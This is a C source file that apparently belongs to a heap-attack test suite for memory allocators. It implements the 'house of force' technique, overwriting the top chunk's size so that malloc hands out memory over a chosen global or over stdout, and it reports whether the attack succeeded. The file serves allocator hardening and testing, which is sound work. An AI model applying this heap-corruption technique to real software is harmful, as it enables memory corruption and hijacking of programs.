/* house_of_force: forge a huge size in the header of the free space after
 * the last block, then make malloc() hand out memory outside the heap.
 *
 * Goal: malloc() returns a block that lies on an object the attacker chose
 * outside the heap: a global in .bss, or the stdout FILE in libc's data.
 *
 * A is the last block allocated; the free space ("top") begins right after
 * it. Overflowing A, the attacker writes an all-ones size (flags kept) over
 * the top's size word, then asks for exactly the distance from the top to
 * the target (wrapping around the address space when the target lies below
 * the heap), so that the top would then begin just below the target, and
 * asks for a small block there.
 *   house_of_force bss       the target is a global array
 *   house_of_force stdout    the target is *stdout
 */
#include "attacks.h"

static char target[256] __attribute__((aligned(16)));

int main(int argc, char **argv)
{
    const char *where = argc > 1 ? argv[1] : "";
    char *t;
    if (IS(where, "bss"))
        t = target;
    else if (IS(where, "stdout"))
        t = (char *)((uintptr_t)stdout & ~(uintptr_t)15);
    else
        usage("house_of_force bss | stdout\n");
    char *x = opaque(malloc(100)), *a = opaque(malloc(100));
    enum atk_layout l = need_layout(x, a);
    /* the top's size word is the first word past A's usable bytes in both
     * layouts; its chunk begins there (slz) or 8 bytes below (glibc) */
    uintptr_t *topsz = (uintptr_t *)(a + malloc_usable_size(a));
    char *top = l == LAYOUT_SLZ ? (char *)topsz : (char *)topsz - 8;
    *topsz = ~flag_bits(l) | (*topsz & flag_bits(l)); /* the overflow from A */
    /* carve the distance: the next chunk then starts at t - 16 */
    size_t need = (size_t)(t - 16 - top);
    size_t request = need - (l == LAYOUT_SLZ ? 16 : 8);
    char *far = opaque(malloc(request));
    if (far && (uintptr_t)t - (uintptr_t)far < request)
        reached("malloc(%#zx) returned %p, a block that covers the target %p", request, (void *)far, (void *)t);
    char *q = opaque(malloc(40));
    if (q && overlap(q, 40, t, 64))
        reached("malloc(40) returned %p, on the target %p outside the heap", (void *)q, (void *)t);
    not_reached("malloc(%#zx) returned %p, malloc(40) returned %p, not the target %p", request, (void *)far,
                (void *)q, (void *)t);
}
